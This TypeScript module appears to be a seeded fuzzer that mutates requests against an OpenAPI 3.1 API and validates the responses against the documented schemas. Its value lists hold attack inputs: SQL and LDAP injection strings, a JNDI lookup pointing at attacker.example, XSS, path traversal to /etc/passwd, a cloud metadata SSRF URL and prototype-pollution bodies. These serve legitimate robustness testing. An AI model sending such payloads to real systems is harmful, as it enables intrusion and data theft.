/**
 * A small, seeded request fuzzer over an OpenAPI 3.1 document: it walks every operation,
 * builds a valid request from the documented schemas (examples, enums, patterns, the names of
 * fields), then breaks it in the ways callers do: wrong types, missing and unknown members,
 * prototype keys, huge and control-character strings, injection strings, bad JSON, wrong
 * content types, odd path and query values, missing or wrong keys. Answers are checked against
 * the same document: a documented status, a documented content type, a body that validates
 * against the documented schema (Ajv, JSON Schema 2020-12, the dialect of OpenAPI 3.1).
 *
 * Everything random comes from one seeded generator, so `FUZZ_SEED=<n>` replays a run exactly.
 */
import { Ajv2020, type ValidateFunction } from 'ajv/dist/2020';

// --- a seeded generator --------------------------------------------------------------------

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
export class Rng {
  private state: number;
  constructor(readonly seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from nothing');
    return items[this.int(items.length)]!;
  }
}

/** The seed of this run: FUZZ_SEED when given (to replay a failure), else a new one. */
export function fuzzSeed(): number {
  const given = process.env.FUZZ_SEED;
  if (given !== undefined && given.trim() !== '') {
    const n = Number(given);
    if (!Number.isSafeInteger(n) || n < 0) throw new Error(`FUZZ_SEED must be a whole number, got ${given}`);
    return n >>> 0;
  }
  return Math.floor(Math.random() * 2 ** 32) >>> 0;
}

// --- JSON text with values JSON.stringify cannot write ------------------------------------

/** A piece of JSON text inserted as it is: `1e309`, `-0`, `NaN`, a broken token. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON text of a value that may hold {@link RawJson} nodes and own `__proto__` keys. */
export function jsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (value === null || typeof value === 'boolean') return String(value);
  if (typeof value === 'number') return Number.isFinite(value) ? JSON.stringify(value) : 'null';
  if (typeof value === 'string') return JSON.stringify(value);
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  if (typeof value === 'object') {
    return `{${Object.keys(value)
      .map((k) => `${JSON.stringify(k)}:${jsonText((value as Record<string, unknown>)[k])}`)
      .join(',')}}`;
  }
  return 'null';
}

/** Sets an own, enumerable property, even `__proto__`. */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

// --- the nasty values ---------------------------------------------------------------------

export const nastyStrings: readonly string[] = [
  '',
  ' ',
  '   \t  ',
  '\u0000',
  'a\u0000b',
  'crm\u0000',
  'steve\u0000',
  '\u0000expensatron',
  '\u0001\u0002\u0003',
  '\u001b[31mred\u001b[0m',
  '\u0007bell',
  '\u007f',
  '\u0085',
  '\u009b2J',
  '\u2028',
  '\u2029',
  'line one\nline two',
  'tab\there',
  '\r\n',
  '\ud800',
  '\udfff',
  'a\ud83dz',
  '\ufeffBOM',
  '\ufffe',
  "' OR '1'='1",
  "'; DROP TABLE journeys; --",
  '" OR ExecutionStatus = "Running',
  'WorkflowType = "fulfilmentWorkflow" OR 1=1',
  '*)(uid=*))(|(uid=*',
  '*',
  '(cn=*)',
  'cn=admin,dc=eagle5,dc=example',
  '\\',
  '\\00',
  '\\2a',
  '%00',
  '%',
  '%ZZ',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '😀',
  '😀'.repeat(300),
  '\u202eevil',
  '\u200b',
  'e\u0301',
  'İstanbul',
  'ß',
  '０１２３',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  ' steve ',
  'STEVE',
  'ivy\n',
  'a'.repeat(65),
  'a'.repeat(201),
  'a'.repeat(2001),
  'x'.repeat(20_000),
  '+447700900123',
  '07700 900123',
  '+44 7700 900123 ext 1',
  'https://apps.example/x',
  'https://apps.example/a b',
  'http://\u0000.example/',
  'ftp://apps.example/x',
];

/** Values of the wrong type (and JSON numbers no JavaScript number holds). */
export const wrongTypes: readonly unknown[] = [
  0,
  -1,
  1.5,
  2 ** 53 + 2,
  -(2 ** 31),
  11,
  true,
  false,
  null,
  [],
  [1, 2],
  ['steve'],
  {},
  { $gt: '' },
  { $ne: null },
  { toString: 'x' },
  [[[[[[[[[[[]]]]]]]]]]],
  new RawJson('1e309'),
  new RawJson('-0'),
  new RawJson('1E-400'),
  new RawJson('12345678901234567890123456789'),
  new RawJson('"\\u0000"'),
  new RawJson('"\\ud800"'),
];

/** Whole bodies that are not the JSON asked for. */
export const badBodies: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '{"serviceId": ',
  '{"a":1,}',
  "{'a': 1}",
  '[',
  'nul',
  'null',
  'true',
  '0',
  '"just a string"',
  '[]',
  '[{}]',
  '{}',
  '\u0000',
  '\u0000\u0001\u0002',
  '\ufeff{}',
  '{} trailing',
  '/* comment */ {}',
  '{"__proto__": {"admin": true}}',
  '{"constructor": {"prototype": {"admin": true}}}',
  '{"a": {"__proto__": {"polluted": 1}}}',
  '{"serviceId": "a", "serviceId": "b"}',
  '['.repeat(3000) + ']'.repeat(3000),
  '{"a":'.repeat(2000) + '1' + '}'.repeat(2000),
  'serviceId=crm&title=x',
  '<?xml version="1.0"?><incident/>',
  '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--',
  JSON.stringify({ huge: 'a'.repeat(70 * 1024) }),
];

export const contentTypes: readonly string[] = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'text/html',
  'application/problem+json',
  'application/merge-patch+json',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'application/json;;',
  'application/octet-stream',
  '*/*',
  'foo',
  'application/json, text/plain',
];

/** Path segments as a client might send them, already encoded for the URL. */
export const nastyPathSegments: readonly string[] = [
  '%00',
  'a%00b',
  '%01',
  '%7F',
  '%C2%85',
  '%E2%80%A8',
  '%ED%A0%80',
  '%C0%80',
  '%FF',
  '%',
  '%ZZ',
  '%E0%A4%A',
  '.',
  '..',
  '%2e%2e',
  'a%2Fb',
  'a%5Cb',
  '%20',
  'has%20space',
  'x'.repeat(99),
  'x'.repeat(101),
  'x'.repeat(2000),
  '%F0%9F%98%80',
  '__proto__',
  'constructor',
  encodeURIComponent("' OR 1=1"),
  encodeURIComponent('*)(uid=*'),
  encodeURIComponent('<script>'),
  '-',
  '0',
];

// --- the OpenAPI document -----------------------------------------------------------------

export type JsonSchema = Record<string, unknown>;

export interface ParameterObject {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema?: JsonSchema;
}

export interface ResponseObject {
  description?: string;
  content?: Record<string, { schema?: JsonSchema }>;
}

export interface OperationObject {
  operationId?: string;
  parameters?: ParameterObject[];
  requestBody?: { required?: boolean; content: Record<string, { schema?: JsonSchema }> };
  responses: Record<string, ResponseObject>;
  security?: Record<string, string[]>[];
}

export interface OpenApiDocument {
  openapi: string;
  paths: Record<string, Record<string, OperationObject>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

export interface Operation {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** The path template, e.g. /api/v1/requests/{id}. */
  path: string;
  op: OperationObject;
  /** JSON Pointer of the operation in the document (for the response validators). */
  pointer: string;
}

const methods = ['get', 'post', 'put', 'patch', 'delete'] as const;

function pointerToken(s: string): string {
  return s.replace(/~/g, '~0').replace(/\//g, '~1');
}

/** Every operation of the document. */
export function operationsOf(doc: OpenApiDocument): Operation[] {
  const out: Operation[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const m of methods) {
      const op = item[m];
      if (op)
        out.push({
          method: m.toUpperCase() as Operation['method'],
          path,
          op,
          pointer: `/paths/${pointerToken(path)}/${m}`,
        });
    }
  }
  return out;
}

/**
 * The operation a request reaches: its path with dot segments resolved and a trailing slash
 * dropped (as clients and the router do), matched against the templates, literal segments
 * first; an empty segment is an empty parameter. Null when the document has no such route.
 */
export function routedOperation(operations: readonly Operation[], method: string, url: string): Operation | null {
  let path = new URL(url, 'http://fuzz.test').pathname;
  if (path.length > 1) path = path.replace(/\/+$/, '');
  const matches = operations.filter((o) => {
    if (o.method !== method) return false;
    const pattern = o.path
      .split(/\{[^}]+\}/)
      .map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
      .join('[^/]*');
    return new RegExp(`^${pattern}$`).test(path);
  });
  const literal = (o: Operation) => o.path.replace(/\{[^}]+\}/g, '').length;
  return matches.sort((a, b) => literal(b) - literal(a))[0] ?? null;
}

/** Follows `$ref`s into the document's components. */
export function resolve(doc: OpenApiDocument, schema: JsonSchema | undefined, depth = 0): JsonSchema {
  if (!schema) return {};
  const ref = schema.$ref;
  if (typeof ref === 'string' && depth < 20) {
    const name = /^#\/components\/schemas\/(.+)$/.exec(ref)?.[1];
    const target = name ? doc.components?.schemas?.[decodeURIComponent(name)] : undefined;
    if (!target) throw new Error(`cannot resolve ${ref}`);
    return resolve(doc, target, depth + 1);
  }
  return schema;
}

// --- valid values from schemas ------------------------------------------------------------

/** Values a field of this name takes in the demo organisation, before the schema's own examples. */
export type Hints = Record<string, readonly unknown[]>;

const stringCandidates = [
  'expensatron',
  'steve',
  'crm',
  'a1',
  'x',
  'abc-1',
  '1',
  'A',
  'hello world',
  'https://apps.example/x',
];

/** A valid value for `schema` (best effort: the API decides; most of what is sent is broken anyway). */
export function validValue(
  doc: OpenApiDocument,
  rawSchema: JsonSchema | undefined,
  rng: Rng,
  hints: Hints,
  name?: string,
  depth = 0,
): unknown {
  const schema = resolve(doc, rawSchema);
  if (depth > 8) return null;
  if ('const' in schema) return schema.const;
  if (Array.isArray(schema.enum) && schema.enum.length > 0) return rng.pick(schema.enum as unknown[]);
  const alternatives = (schema.oneOf ?? schema.anyOf) as JsonSchema[] | undefined;
  if (Array.isArray(alternatives) && alternatives.length > 0) {
    const nonNull = alternatives.filter((a) => resolve(doc, a).type !== 'null');
    return validValue(doc, rng.pick(nonNull.length > 0 ? nonNull : alternatives), rng, hints, name, depth + 1);
  }
  if (Array.isArray(schema.allOf) && schema.allOf.length > 0)
    return validValue(doc, schema.allOf[0] as JsonSchema, rng, hints, name, depth + 1);
  const types = Array.isArray(schema.type)
    ? (schema.type as string[])
    : typeof schema.type === 'string'
      ? [schema.type]
      : [];
  const type = types.find((t) => t !== 'null') ?? (schema.properties ? 'object' : 'string');
  const hinted = name !== undefined ? hints[name] : undefined;
  if (hinted && hinted.length > 0 && (type === 'string' || typeof hinted[0] !== 'string')) return rng.pick(hinted);
  const examples = schema.examples;
  if (Array.isArray(examples) && examples.length > 0 && rng.chance(0.9)) return rng.pick(examples as unknown[]);
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      const required = new Set(Array.isArray(schema.required) ? (schema.required as string[]) : []);
      for (const [key, sub] of Object.entries((schema.properties ?? {}) as Record<string, JsonSchema>)) {
        if (required.has(key) || rng.chance(0.6)) out[key] = validValue(doc, sub, rng, hints, key, depth + 1);
      }
      return out;
    }
    case 'array': {
      const n = Math.max(typeof schema.minItems === 'number' ? schema.minItems : 0, rng.int(3));
      return Array.from({ length: n }, () => validValue(doc, schema.items as JsonSchema, rng, hints, name, depth + 1));
    }
    case 'integer':
    case 'number': {
      const min = typeof schema.minimum === 'number' ? schema.minimum : 0;
      const max = typeof schema.maximum === 'number' ? schema.maximum : min + 10;
      const n = min + rng.int(Math.max(1, Math.floor(max - min) + 1));
      return type === 'integer' ? Math.floor(n) : n;
    }
    case 'boolean':
      return rng.chance(0.5);
    default: {
      if (schema.format === 'uri') return 'https://apps.example/fuzz';
      if (schema.format === 'email') return 'steve@eagle5.example';
      const pattern = typeof schema.pattern === 'string' ? safeRegExp(schema.pattern) : null;
      const minLength = typeof schema.minLength === 'number' ? schema.minLength : 0;
      const maxLength = typeof schema.maxLength === 'number' ? schema.maxLength : 200;
      const fits = (s: string) => s.length >= minLength && s.length <= maxLength && (!pattern || pattern.test(s));
      const candidate = stringCandidates.find(fits);
      if (candidate) return candidate;
      return 'Fuzz text'.padEnd(Math.min(Math.max(minLength, 9), maxLength), '.');
    }
  }
}

function safeRegExp(source: string): RegExp | null {
  try {
    return new RegExp(source, 'u');
  } catch {
    return null;
  }
}

// --- mutations ------------------------------------------------------------------------------

type Path = (string | number)[];

/** Every place in a JSON value a mutation can change: its members, at any depth (not the root). */
export function leafPaths(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) value.forEach((v, i) => (out.push([...prefix, i]), leafPaths(v, [...prefix, i], out)));
  else if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
    for (const k of Object.keys(value)) {
      out.push([...prefix, k]);
      leafPaths((value as Record<string, unknown>)[k], [...prefix, k], out);
    }
  }
  return out;
}

/** A deep copy keeping {@link RawJson} nodes and own `__proto__` keys. */
export function clone<T>(value: T): T {
  if (value instanceof RawJson || value === null || typeof value !== 'object') return value;
  if (Array.isArray(value)) return value.map(clone) as T;
  const out: Record<string, unknown> = {};
  for (const k of Object.keys(value)) setOwn(out, k, clone((value as Record<string, unknown>)[k]));
  return out as T;
}

function parentOf(
  root: unknown,
  path: Path,
): { parent: Record<string | number, unknown>; key: string | number } | null {
  let node: unknown = root;
  for (const k of path.slice(0, -1)) {
    if (node === null || typeof node !== 'object') return null;
    node = (node as Record<string | number, unknown>)[k];
  }
  if (node === null || typeof node !== 'object') return null;
  return { parent: node as Record<string | number, unknown>, key: path[path.length - 1]! };
}

/** A nasty value: mostly strings, sometimes the wrong type. */
export function nastyValue(rng: Rng): unknown {
  return rng.chance(0.65) ? rng.pick(nastyStrings) : clone(rng.pick(wrongTypes));
}

/** One mutation of a JSON value (returns the new root). */
export function mutate(rng: Rng, root: unknown): unknown {
  const value = clone(root);
  const paths = leafPaths(value);
  const kind = rng.int(10);
  if (paths.length === 0 || kind === 0) {
    // The root itself becomes something else.
    return rng.chance(0.5) ? nastyValue(rng) : clone(rng.pick(wrongTypes));
  }
  const path = rng.pick(paths);
  const at = parentOf(value, path);
  if (!at) return value;
  if (kind <= 5) {
    at.parent[at.key] = nastyValue(rng);
  } else if (kind <= 7) {
    // A member goes missing.
    if (Array.isArray(at.parent)) at.parent.splice(Number(at.key), 1);
    else delete at.parent[at.key];
  } else {
    // An unknown or prototype key appears next to it.
    if (!Array.isArray(at.parent)) {
      const key = rng.pick([
        '__proto__',
        'constructor',
        'prototype',
        'unknownField',
        '',
        '\u0000',
        'a'.repeat(500),
        '$where',
        'x.y',
        'a/b~c',
      ]);
      const v =
        key === 'constructor'
          ? { prototype: { polluted: true } }
          : key === '__proto__'
            ? { polluted: true }
            : nastyValue(rng);
      setOwn(at.parent, key, v);
    } else at.parent.push(nastyValue(rng));
  }
  return value;
}

// --- checking answers against the document ------------------------------------------------

/** What one fuzz request was, to print and replay. */
export interface FuzzCase {
  index: number;
  label: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
}

export interface FuzzAnswer {
  statusCode: number;
  headers: Record<string, string | string[] | number | undefined>;
  body: string;
}

/**
 * Checks an answer against the document: a status the operation documents, a content type it
 * documents for that status, and a body matching the schema. Returns what is wrong, or null.
 * `operation` null: a path or method the document does not have (must be a 404 Problem).
 */
export function createAnswerChecker(
  doc: OpenApiDocument,
): (operation: Operation | null, answer: FuzzAnswer) => string | null {
  const ajv = new Ajv2020({ strict: false, allErrors: false, validateFormats: false });
  ajv.addSchema({ ...(doc as unknown as Record<string, unknown>), $id: 'https://fuzz.test/openapi.json' });
  const validators = new Map<string, ValidateFunction>();
  const validatorFor = (pointer: string): ValidateFunction => {
    let v = validators.get(pointer);
    if (!v) {
      v = ajv.compile({ $ref: `https://fuzz.test/openapi.json#${pointer}` });
      validators.set(pointer, v);
    }
    return v;
  };
  return (operation, answer) => {
    const status = answer.statusCode;
    if (status >= 500) return `answered ${status}`;
    const contentType = String(answer.headers['content-type'] ?? '')
      .split(';')[0]!
      .trim()
      .toLowerCase();
    if (!operation) {
      if (status !== 404) return `an undocumented route answered ${status}, not 404`;
      if (contentType !== 'application/problem+json')
        return `an undocumented route answered ${contentType || 'no content type'}, not application/problem+json`;
      const ok = validatorFor('/components/schemas/Problem');
      return ok(parseJson(answer.body)) ? null : `the 404 is not a Problem: ${ajv.errorsText(ok.errors)}`;
    }
    const documented = operation.op.responses[String(status)] ?? operation.op.responses.default;
    const statusKey = operation.op.responses[String(status)] ? String(status) : 'default';
    if (!documented)
      return `status ${status} is not documented (documented: ${Object.keys(operation.op.responses).join(', ')})`;
    const content = documented.content;
    if (!content || Object.keys(content).length === 0)
      return answer.body.length === 0 ? null : `status ${status} is documented without a body, but one came`;
    const mediaType = Object.keys(content).find((m) => m.toLowerCase() === contentType);
    if (!mediaType)
      return `status ${status} answered ${contentType || 'no content type'}; documented: ${Object.keys(content).join(', ')}`;
    const schemaPointer = `${operation.pointer}/responses/${pointerToken(statusKey)}/content/${pointerToken(mediaType)}/schema`;
    const isJson = /[/+]json$/.test(mediaType);
    const data: unknown = isJson ? parseJson(answer.body) : answer.body;
    if (isJson && data === invalidJson)
      return `status ${status}: the ${mediaType} body is not JSON: ${answer.body.slice(0, 200)}`;
    const validate = validatorFor(schemaPointer);
    if (!validate(data))
      return `status ${status}: the body does not match the documented schema: ${ajv.errorsText(validate.errors)}`;
    return null;
  };
}

const invalidJson = Symbol('invalid JSON');
function parseJson(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return invalidJson;
  }
}

/** A case as one line for a failure report (long values shortened). */
export function describeCase(c: FuzzCase): string {
  const short = (s: string) =>
    s.length > 300 ? `${JSON.stringify(s.slice(0, 300))}… (${s.length} chars)` : JSON.stringify(s);
  const headers = Object.entries(c.headers)
    .filter(([k]) => k !== 'cookie')
    .map(([k, v]) => `${k}: ${k === 'authorization' ? v.replace(/(Bearer\s+\S{6})\S*/i, '$1…') : short(v)}`)
    .join('; ');
  return `#${c.index} [${c.label}] ${c.method} ${c.url.length > 300 ? `${c.url.slice(0, 300)}…` : c.url} {${headers}}${c.payload !== undefined ? ` body ${short(c.payload)}` : ''}`;
}
